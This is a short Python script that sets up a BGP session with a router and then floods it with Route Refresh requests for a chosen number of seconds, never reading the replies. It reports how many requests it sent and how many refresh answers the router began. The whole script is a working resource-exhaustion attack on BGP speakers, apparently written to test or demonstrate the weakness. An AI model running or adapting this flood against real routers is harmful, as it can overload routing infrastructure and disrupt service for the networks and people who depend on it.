"""A BGP speaker (RFC 4271) that asks for routes again (RFC 2918) without end, and does not read what it gets.

refresh_flood.py ADDRESS SECONDS  says how many requests it sent, and how many answers were begun (RFC 7313)
"""
import select, socket, struct, sys, time

address, seconds = sys.argv[1], float(sys.argv[2])


def message(kind, body=b""):
    return b"\xff" * 16 + struct.pack(">HB", 19 + len(body), kind) + body


def capability(code, value=b""):
    return bytes([code, len(value)]) + value


OPEN, UPDATE, KEEPALIVE, REFRESH = 1, 2, 4, 5
FAMILIES = [b"\x00\x01\x00\x01", b"\x00\x02\x00\x01"]
offers = [capability(1, family) for family in FAMILIES]
offers += [capability(2), capability(70), capability(65, struct.pack(">I", 65002))]
offers = b"".join(offers)
parameters = bytes([2, len(offers)]) + offers
hello = struct.pack(">BHH4sB", 4, 65002, 180, bytes([192, 0, 2, 9]), len(parameters)) + parameters

heard = b""


def hear(patience):
    """The messages that come until nothing has come for so long."""
    global heard
    while select.select([wire], [], [], patience)[0]:
        more = wire.recv(1 << 20)
        if not more:
            sys.exit("the session was ended")
        heard += more
        while len(heard) >= 19 and len(heard) >= (length := struct.unpack(">H", heard[16:18])[0]):
            one, heard = heard[:length], heard[length:]
            yield one[18], one[19:]


for _ in range(100):
    try:
        wire = socket.create_connection((address, 179), 1)
        break
    except OSError:
        time.sleep(0.1)
wire.setblocking(False)
wire.send(message(OPEN, hello) + message(KEEPALIVE))
kinds = [kind for kind, _ in hear(2)]
assert kinds[:2] == [OPEN, KEEPALIVE] and UPDATE in kinds, kinds

requests = b"".join(message(REFRESH, family) for family in FAMILIES)
part = message(KEEPALIVE) + requests * 2000
sent, rest, until = 0, part, time.time() + seconds
while time.time() < until or len(rest) < len(part):
    if not select.select([], [wire], [], 0.1)[1]:
        continue
    rest = rest[wire.send(rest):]
    if not rest:
        sent, rest = sent + 4000, part
begun = sum(kind == REFRESH and body[2] == 1 for kind, body in hear(3))
print(f"{sent} requests, {begun} answers")
